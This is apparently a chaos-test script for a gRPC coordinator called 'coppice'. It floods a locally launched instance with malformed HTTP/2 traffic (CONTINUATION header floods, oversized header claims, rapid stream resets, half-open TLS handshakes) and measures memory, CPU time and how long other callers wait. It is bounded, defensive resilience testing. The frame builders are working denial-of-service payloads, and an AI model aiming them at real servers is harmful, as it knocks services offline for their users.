#!/usr/bin/env python3
"""Frames that no gRPC client sends, and what they do to a coordinator: its memory, its time, and the waits of others.

  tests/chaos/raw_frames.py --bin build/release/bin --out DIR [--attack NAME ...] [--peer token|stranger|member] [--megabytes 600] [--seconds 20]

Each attack runs against a coordinator of its own on loopback. The peer:
  token     no client certificate, and none is asked for (TLS and tokens, as `init-tls` makes them)
  stranger  no client certificate, and the coordinator asks for one (`--require-client-cert`)
  member    a client certificate, and the coordinator asks for one
Attacks (Linux only: memory is read from /proc):
  continuation  a header block of small headers that never ends, in CONTINUATION frames
  claim         a header value that claims 4 GB, in CONTINUATION frames; four connections
  trickle       the same, one byte of it to a frame
  reset         HEADERS and RST_STREAM, again and again, on two connections
  handshakes    connections that begin a TLS handshake and do not end it
  connections   connections that end the handshake and say nothing
None of them sends more than --megabytes, nor for longer than --seconds. Meanwhile `coppice list` is called again and again.
With --check the exit code is 1 when memory passes 200 MB, the coordinator ends, or a call of others fails; with --longest-wait also when one of
them takes longer than that.
"""
import argparse
import os
import re
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

from daemons import Daemon

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
MEMORY_LIMIT = 200 << 20


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


def number(value, bits):
    """HPACK's integer, after a prefix of ones."""
    most = (1 << bits) - 1
    value -= most
    out = b''
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return bytes([most]) + out + bytes([value])


# A call's own headers: :method POST, :scheme http, :path of a method that everybody may call, te.
CALL = (b'\x83\x86\x04' + text(b'/grpc.health.v1.Health/Watch') + b'\x01' + text(b'localhost')
        + b'\x00' + text(b'te') + text(b'trailers') + b'\x00' + text(b'content-type') + text(b'application/grpc'))
BIG_VALUE = b'\x00' + text(b'x-big') + number(4_000_000_000, 7)


class Attacker(threading.Thread):
    """One connection after another, as long as the coordinator takes them, within the bounds on bytes and time."""

    def __init__(self, attack, target, seconds, most_bytes):
        super().__init__(daemon=True)
        self.attack, self.target = attack, target
        self.deadline = time.monotonic() + seconds
        self.left = most_bytes
        self.sent = self.connections = self.refused = 0

    def run(self):
        while time.monotonic() < self.deadline and self.left > 0:
            try:
                connection = self.target.connect()
            except (OSError, ssl.SSLError):
                self.refused += 1
                time.sleep(0.02)
                continue
            self.connections += 1
            try:
                self.send(connection, PREFACE + frame(SETTINGS, 0, 0))
                self.attack(self, connection)
            except (OSError, ssl.SSLError):
                self.refused += 1
                time.sleep(0.02)
            finally:
                connection.close()

    def send(self, connection, data):
        if time.monotonic() >= self.deadline or self.left <= 0:
            raise OSError('enough')
        connection.sendall(data)
        self.sent += len(data)
        self.left -= len(data)

    def stay(self, connection):
        """Reads what comes until the other end closes."""
        connection.settimeout(max(0.01, self.deadline - time.monotonic()))
        while connection.recv(65536):
            pass


def continuation(attacker, connection):
    attacker.send(connection, frame(HEADERS, 0, 1, CALL))
    block = b''.join(b'\x00' + text(b'x-%d' % i) + text(b'v' * 100) for i in range(140))
    piece = frame(CONTINUATION, 0, 1, block) * 16
    while True:
        attacker.send(connection, piece)


def claim(attacker, connection):
    attacker.send(connection, frame(HEADERS, 0, 1, CALL + BIG_VALUE))
    piece = frame(CONTINUATION, 0, 1, b'v' * 16384)
    while True:
        attacker.send(connection, piece)


def trickle(attacker, connection):
    attacker.send(connection, frame(HEADERS, 0, 1, CALL + BIG_VALUE))
    piece = frame(CONTINUATION, 0, 1, b'v') * 1000
    while True:
        attacker.send(connection, piece)


def reset(attacker, connection):
    stream = 1
    while stream < 1 << 30:
        calls = []
        for _ in range(500):
            calls.append(frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack('>I', 8)))
            stream += 2
        attacker.send(connection, b''.join(calls))


def stay(attacker, connection):
    attacker.stay(connection)


# Name: what one connection does, how many at once, whether its TLS handshake is left half done.
ATTACKS = {
    'continuation': (continuation, 1, False),
    'claim': (claim, 4, False),
    'trickle': (trickle, 2, False),
    'reset': (reset, 2, False),
    'handshakes': (stay, 300, True),
    'connections': (stay, 300, False),
}


class Target:
    def __init__(self, address, tls, member, half, source):
        self.address, self.half, self.source = address, half, source
        self.context = ssl.create_default_context(cafile=os.path.join(tls, 'ca-cert.pem'))
        self.context.set_alpn_protocols(['h2'])
        if member:
            self.context.load_cert_chain(os.path.join(tls, 'client-cert.pem'), os.path.join(tls, 'client-key.pem'))

    def connect(self):
        plain = socket.create_connection(self.address, timeout=10, source_address=(self.source, 0))
        if self.half:
            plain.sendall(b'\x16\x03\x01\x40\x00\x01')  # a record of 16 KiB has begun
            return plain
        try:
            return self.context.wrap_socket(plain, server_hostname='localhost')
        except (OSError, ssl.SSLError):
            plain.close()
            raise


def memory_of(pid):
    """Resident bytes, and the seconds of CPU so far; None when the process has gone."""
    try:
        with open(f'/proc/{pid}/status', encoding='utf-8') as status:
            found = re.search(r'VmRSS:\s+(\d+) kB', status.read())
        with open(f'/proc/{pid}/stat', encoding='utf-8') as stat:
            fields = stat.read().rsplit(')', 1)[1].split()
        ticks = os.sysconf('SC_CLK_TCK')
        return (int(found.group(1)) << 10, (int(fields[11]) + int(fields[12])) / ticks) if found else None
    except (OSError, ValueError):
        return None


class Watcher(threading.Thread):
    """The coordinator's memory, 20 times a second."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.peak, self.cpu, self.gone, self.enough = pid, 0, 0.0, False, threading.Event()

    def run(self):
        first = memory_of(self.pid)
        while not self.enough.wait(0.05):
            now = memory_of(self.pid)
            if now is None:
                self.gone = True
                return
            self.peak = max(self.peak, now[0])
            self.cpu = now[1] - (first[1] if first else 0)


class Caller(threading.Thread):
    """Somebody else's calls."""

    def __init__(self, command, environment):
        super().__init__(daemon=True)
        self.command, self.environment = command, environment
        self.calls = self.failed = 0
        self.longest, self.enough = 0.0, threading.Event()

    def once(self):
        begin = time.monotonic()
        code = subprocess.run(self.command, env=self.environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              timeout=120, check=False).returncode
        return time.monotonic() - begin, code

    def run(self):
        while not self.enough.is_set():
            took, code = self.once()
            self.calls += 1
            self.failed += code != 0
            self.longest = max(self.longest, took)


class Victim:
    """A coordinator with TLS and tokens, and with client certificates where `mutual`."""

    def __init__(self, options, name, mutual):
        folder = os.path.join(options.out, name)
        self.tls = os.path.join(folder, 'tls')
        os.makedirs(folder)
        coordinator = os.path.join(options.bin, 'coppice-coordinator')
        subprocess.run([coordinator, 'init-tls', '--dir', self.tls, '--client'], stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, check=True)
        self.daemon = Daemon('coordinator', os.path.join(folder, 'coordinator.log'))
        self.daemon.argv = [coordinator, '--data-dir', os.path.join(folder, 'data'), '--listen', '127.0.0.1:0', '--tls-dir', self.tls]
        if mutual:
            self.daemon.argv.append('--require-client-cert')
        self.daemon.start()
        self.address = self.find_address()
        self.environment = {key: value for key, value in os.environ.items() if not key.startswith('COPPICE_')}
        self.environment.update({
            'COPPICE_COORDINATOR': 'localhost:%d' % self.address[1], 'COPPICE_TLS_CA': os.path.join(self.tls, 'ca-cert.pem'),
            'COPPICE_TOKEN_FILE': os.path.join(self.tls, 'viewer.token')})
        if mutual:
            self.environment.update({'COPPICE_TLS_CERT': os.path.join(self.tls, 'client-cert.pem'),
                                     'COPPICE_TLS_KEY': os.path.join(self.tls, 'client-key.pem')})

    def find_address(self):
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and self.daemon.alive():
            with open(self.daemon.log, encoding='utf-8', errors='replace') as log:
                found = re.search(r'serving on (127\.0\.0\.1):(\d+)', log.read())
            if found:
                return found.group(1), int(found.group(2))
            time.sleep(0.05)
        sys.exit(f'the coordinator did not start; see {self.daemon.log}')

    def stop(self):
        if self.daemon.alive():
            self.daemon.process.kill()
        self.daemon.process.wait(30)


def run(options, attack, peer):
    victim = Victim(options, f'{attack}-{peer}', mutual=peer != 'token')
    command, count, half = ATTACKS[attack]
    target = Target(victim.address, victim.tls, peer == 'member', half, options.source)
    watcher = Watcher(victim.daemon.process.pid)
    caller = Caller([os.path.join(options.bin, 'coppice'), 'list'], victim.environment)
    before = max(caller.once()[0] for _ in range(3))
    watcher.start()
    caller.start()
    attackers = [Attacker(command, target, options.seconds, options.megabytes * 1_000_000 // count) for _ in range(count)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()
    time.sleep(1)
    after = caller.once()
    caller.enough.set()
    caller.join()
    watcher.enough.set()
    watcher.join()
    gone = watcher.gone or not victim.daemon.alive()
    victim.stop()
    good = not gone and watcher.peak < MEMORY_LIMIT and caller.longest < options.longest_wait and caller.failed == 0 and after[1] == 0
    print(f'{attack:12} {peer:9} {sum(a.sent for a in attackers) / 1e6:8.1f} MB sent on {sum(a.connections for a in attackers):6} connections, '
          f'{sum(a.refused for a in attackers):6} refused or ended: memory {watcher.peak / (1 << 20):6.0f} MB, CPU {watcher.cpu:5.1f} s, '
          f'others {caller.calls:4} calls, {caller.failed} failed, longest {caller.longest:6.2f} s (alone {before:.2f} s)'
          f'{", THE COORDINATOR ENDED" if gone else ""}', flush=True)
    return good


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument('--bin', required=True, help='folder of the binaries')
    parser.add_argument('--out', required=True, help='folder for logs and data; emptied first')
    parser.add_argument('--attack', action='append', choices=sorted(ATTACKS))
    parser.add_argument('--peer', action='append', choices=['token', 'stranger', 'member'])
    parser.add_argument('--megabytes', type=int, default=600)
    parser.add_argument('--seconds', type=float, default=20)
    parser.add_argument('--source', default='127.0.0.2', help='address of the attackers; others call from 127.0.0.1')
    parser.add_argument('--check', action='store_true')
    parser.add_argument('--longest-wait', type=float, default=120, help='seconds that a call of others may take')
    options = parser.parse_args()
    shutil.rmtree(options.out, ignore_errors=True)
    os.makedirs(options.out)
    results = [run(options, attack, peer) for peer in options.peer or ['stranger', 'member'] for attack in options.attack or ATTACKS]
    return 0 if all(results) or not options.check else 1


if __name__ == '__main__':
    sys.exit(main())
